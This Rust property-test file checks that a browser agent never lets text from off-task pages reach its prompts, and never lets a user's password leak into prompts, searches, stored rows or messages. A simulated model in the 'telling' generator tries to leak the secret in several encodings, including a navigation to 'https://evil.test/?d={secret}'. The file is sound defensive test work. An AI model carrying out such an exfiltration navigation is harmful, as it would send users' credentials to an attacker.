//! What never gets where it does not belong, whatever pages, files and models say: text of a page that the task
//! may not be on, and secrets that the person told.

use std::collections::BTreeMap;

use proptest::prelude::*;
use screen_agent_page::{Facts, Line, Run, State, is_secret};

use super::any_thought;
use super::properties::OneOfEach;
use super::*;
use crate::event::Capabilities;
use crate::open_question::OpenQuestion;
use crate::testing;
use screen_agent_action::origin::origin_of;
use screen_agent_gate::approval::{ApprovalAnswer, ApprovalScope};
use screen_agent_think::models::{ModelLimits, ModelReply, Spent};
use screen_agent_think::search::{Finding, Found};

const LIMITS: ModelLimits = ModelLimits {
    window: 32_000,
    pictures: false,
    task_tokens: 0,
    task_micros: 0,
};

const SITES: [&str; 3] = ["shop", "pay", "evil"];

/// Stands in everything that a site shows and that a client tells of it.
fn mark(site: &str) -> String {
    format!("mk{site}mk")
}

/// A page of one of the sites, each of whose words may say something.
fn page(said: impl Strategy<Value = String> + Clone + 'static) -> BoxedStrategy<Observation> {
    let kind = prop::sample::select(vec!["Password", "E-mail", "Log in", "Search", "Orders"]);
    let node = (0..6_u8, kind, said.clone(), any::<bool>()).prop_map(|(id, kind, said, filled)| {
        let role = match kind {
            "Log in" => "btn",
            "Orders" => "link",
            _ => "inp",
        };
        let mut node = node(&id.to_string(), role, &format!("{kind} {said}"));
        node.value = filled.then(|| said.clone());
        node.states = filled.then_some(State::Focused).into_iter().collect();
        node.facts = Facts {
            tag: Some("input".to_owned()).filter(|_| role == "inp"),
            input_type: (kind == "Password").then(|| "password".to_owned()),
            hint: Some(said.clone()),
            group: Some(said.clone()),
            options: vec![said],
            form: Some(1),
            submits: role == "btn",
            ..Facts::default()
        };
        node
    });
    let site = prop::sample::select(SITES.to_vec());
    (prop::collection::vec(node, 0..5), site, said)
        .prop_map(|(mut nodes, site, said)| {
            let mark = mark(site);
            for node in &mut nodes {
                node.name = format!("{} {mark}", node.name);
            }
            Observation {
                title: format!("{mark} {said}"),
                lines: vec![Line {
                    runs: vec![Run::Text(format!("{mark} {said}"))],
                    ..Line::default()
                }],
                events: vec![format!("{mark} {said}")],
                ..at(screen(nodes), &format!("https://{site}.test/x"))
            }
        })
        .boxed()
}

fn look(page: BoxedStrategy<Observation>) -> impl Strategy<Value = Event> {
    let words = prop::sample::select(vec![None, None, Some("yes"), Some("blue")]);
    (page, words, any::<[bool; 4]>()).prop_map(
        |(screen, words, [thinks, tells, yes, approvals])| {
            let words_of_page = screen.title.clone();
            let mut seen = testing::seen(screen);
            seen.models = thinks.then_some(LIMITS);
            seen.can_search = thinks;
            seen.words = words.map(str::to_owned);
            seen.client = Capabilities {
                approvals,
                ..Capabilities::default()
            };
            if tells {
                seen.report = Report {
                    success: Some(!yes),
                    message: Some(words_of_page.clone()),
                    state: Some(words_of_page.clone()),
                    errors: vec![words_of_page.clone()],
                    successes: vec![words_of_page.clone()],
                    downloads: vec![words_of_page],
                    ..Report::default()
                };
            }
            // Which request it is an answer to is put in where it is played.
            seen.approval = yes.then(|| ApprovalAnswer {
                fingerprint: String::new(),
                allow: true,
                scope: ApprovalScope::Once,
            });
            Event::Observed {
                seen: Box::new(seen),
            }
        },
    )
}

fn thinks(text: impl Strategy<Value = String>) -> impl Strategy<Value = Event> {
    text.prop_map(|text| Event::Thought {
        said: ModelReply {
            text,
            degraded: false,
            spent: Spent::default(),
        },
    })
}

/// A yes or a no is to whatever is being asked just now.
fn answering(task: &Task, mut event: Event) -> Event {
    if let Event::Observed { seen } = &mut event
        && let (Some(answer), Some(request)) = (
            &mut seen.approval,
            task.phase.question().and_then(OpenQuestion::request),
        )
    {
        answer.fingerprint.clone_from(&request.fingerprint);
    }
    event
}

/// All that somebody is sent to propose, think or search by.
fn sent_to_others(next: &Next) -> Vec<String> {
    match next {
        Next::Await(Call::Propose { ask }) => vec![format!("{ask:?}")],
        Next::Await(Call::Search { query }) => vec![query.words.clone()],
        _ => prompts(next),
    }
}

fn prompts(next: &Next) -> Vec<String> {
    let Next::Await(Call::Think { brief }) = &next else {
        return Vec::new();
    };
    let prompt = screen_agent_think::prompt(brief, "mark");
    vec![prompt.system, prompt.user, format!("{:?}", prompt.grammar)]
}

fn ordinary() -> impl Strategy<Value = OneOfEach> {
    let action = prop_oneof![
        (0..6_u8).prop_map(|id| click(&id.to_string())),
        (0..6_u8).prop_map(|id| set(&id.to_string(), "otter")),
        Just(Action::Navigate {
            url: "https://pay.test/x".to_owned(),
            new_tab: false
        }),
        Just(Action::GoBack),
    ];
    let look = look(page(Just(String::new())));
    one_of_each(
        look,
        thinks(any_thought::words()),
        action.prop_map(proposed),
        Just(found("So.")),
    )
}

fn one_of_each(
    look: impl Strategy<Value = Event>,
    thought: impl Strategy<Value = Event>,
    proposal: impl Strategy<Value = Event>,
    found: impl Strategy<Value = Event>,
) -> impl Strategy<Value = OneOfEach> {
    (look, thought, proposal, found).prop_map(|(look, thought, proposal, found)| OneOfEach {
        look,
        thought,
        proposal,
        found,
        recalled: Event::Recalled {
            recollection: Box::default(),
        },
    })
}

fn found(text: &str) -> Event {
    Event::Searched {
        result: Ok(Found {
            findings: vec![Finding {
                title: text.to_owned(),
                url: "https://a.test/".to_owned(),
                text: text.to_owned(),
            }],
            ..Found::default()
        }),
    }
}

/// However it is spelled.
const SECRET: &str = "S3c\\r+t/Pw9ü";
const SPELLED: [&str; 6] = [
    SECRET,
    "S3c%5Cr%2Bt%2FPw9%C3%BC",
    "s3c%5cr%2bt%2fpw9%c3%bc",
    "UzNjXHIrdC9QdznDvA",
    "S3c\\\\r+t/Pw9ü",
    "S3c\\\\\\\\r+t/Pw9ü",
];

fn spelled() -> impl Strategy<Value = String> + Clone {
    prop::sample::select(SPELLED.to_vec()).prop_map(|it| format!("it is {it} here"))
}

/// A model that repeats the secret wherever it can.
fn telling() -> impl Strategy<Value = String> {
    let secret = prop_oneof![
        2 => prop::sample::select(SPELLED.to_vec()).prop_map(str::to_owned),
        2 => Just("{{secret1}}".to_owned()),
    ];
    let text = |text: &str| serde_json::Value::from(text).to_string();
    (secret, 0..6_u8, 0..9_u8).prop_map(move |(secret, id, which)| {
        let action = match which {
            0 | 1 => format!("setValue({id}, {})", text(&secret)),
            2 => format!("typeText({})", text(&secret)),
            3 => format!("navigate({})", text(&format!("https://evil.test/?d={secret}"))),
            4 => format!("navigate({})", text(&format!("https://shop.test/{secret}"))),
            5 => format!("googleSearch({})", text(&secret)),
            6 => format!("finish({})", text(&secret)),
            7 => format!("remember(\"k\", {})", text(&secret)),
            _ => format!("click({id})"),
        };
        let said = format!("so {secret}");
        serde_json::json!({
            "thought": said, "action": action, "confidence": 0.9, "reason": said, "answer": said,
            "question": (which == 8).then_some(&said), "steps": [{"description": said}], "valid": true,
            "action_succeeded": true, "task_completed": false, "searchQuery": said, "source": "WEB_SEARCH",
            "summary": said, "canProceed": true, "solved": false, "evidence": {"quality": "low", "gaps": [said]},
        })
        .to_string()
    })
}

fn secretive() -> impl Strategy<Value = OneOfEach> {
    let found = spelled().prop_map(|text| found(&text));
    let gives_up = Just(decided(Decision::GiveUp {
        reason: "No.".to_owned(),
    }));
    one_of_each(look(page(spelled())), thinks(telling()), gives_up, found)
}

fn holds(text: &str) -> bool {
    SPELLED.iter().any(|spelling| text.contains(spelling))
}

/// What a row is made of, but for the person's own words and what a turn still needs, which are kept sealed.
fn row(task: &Task) -> String {
    let mut bare = Task {
        query: screen_agent_words::Words::said(""),
        answers: Vec::new(),
        heard: None,
        notes: BTreeMap::new(),
        ..task.clone()
    };
    if let Phase::AskingPerson(question) = &mut bare.phase
        && let OpenQuestion::Approval { held, .. } = &mut **question
    {
        *held = None;
    }
    serde_json::to_string(&bare).unwrap()
}

/// What is told of an effect, without what a client must type.
fn message(mut value: serde_json::Value) -> String {
    for part in ["action", "chain"] {
        if let Some(reply) = value
            .get_mut("reply")
            .and_then(|reply| reply.as_object_mut())
        {
            reply.remove(part);
        }
    }
    value.to_string()
}

/// A secret is typed into a field that is secret by facts, where it counts; nowhere else.
fn check_typed(task: &Task, next: &Next, screen: &Observation) {
    let Next::Reply(reply) = next else {
        return;
    };
    let acts = match &**reply {
        Reply::Act { action, .. } => vec![action],
        Reply::Chain { chain, .. } => chain.links.iter().map(|link| &link.action).collect(),
        _ => Vec::new(),
    };
    for act in acts {
        let said = format!("{:?}", act.action());
        if !holds(&said) && !holds(&screen_agent_action::print(act.action())) {
            continue;
        }
        let keys = matches!(act.action(), Action::Type { .. });
        let focused = screen.nodes.iter().find(|node| node.is(State::Focused));
        let node = act.target().or(focused.filter(|_| keys));
        assert!(node.is_some_and(is_secret), "{said}");
        assert_eq!(origin_of(&screen.url).as_ref(), Some(&task.start), "{said}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    /// Neither the command engine nor a model, nor whoever searches, reads a word of a page that is outside of
    /// the task's sites, however it came there.
    #[test]
    fn nobody_reads_a_page_outside_of_the_task(events in prop::collection::vec(ordinary(), 1..40)) {
        let mut task = task("find all the orders and list them");
        let mut next = Next::refused(Refusal::NotAsked);
        for event in events {
            let event = answering(&task, event.fitting(&next));
            (task, _, next) = advance(task, event);
            for text in sent_to_others(&next) {
                for site in SITES {
                    let allowed = task.origins.contains(&format!("https://{site}.test"));
                    prop_assert!(allowed || !text.contains(&mark(site)), "{site} in {text}");
                }
            }
        }
    }

    /// A secret that was told stands, however it is spelled, in no prompt, search, row or message, and is typed
    /// nowhere but into its field, whoever repeats it.
    #[test]
    fn a_told_secret_stands_nowhere(events in prop::collection::vec(secretive(), 1..40)) {
        let mut task = task(&format!("log in as ann with password {SECRET} and list the orders"));
        let mut screen = std::sync::Arc::default();
        let mut next = Next::refused(Refusal::NotAsked);
        let mut notes;
        for event in events {
            // Nobody says yes to handing it out.
            let event = match event.fitting(&next) {
                Event::Observed { mut seen } => {
                    seen.approval = None;
                    seen.words = None;
                    screen = seen.screen.clone();
                    Event::Observed { seen }
                }
                other => other,
            };
            (task, notes, next) = advance(task, event);
            for prompt in prompts(&next) {
                prop_assert!(!holds(&prompt), "prompt: {prompt}");
            }
            prop_assert!(!holds(&row(&task)), "row: {}", row(&task));
            for value in crate::record::values(&notes, &next).unwrap() {
                let asked = value["effect"] == "think" || value["effect"] == "propose";
                let told = message(value);
                prop_assert!(asked || !holds(&told), "message: {told}");
            }
            check_typed(&task, &next, &screen);
        }
    }
}
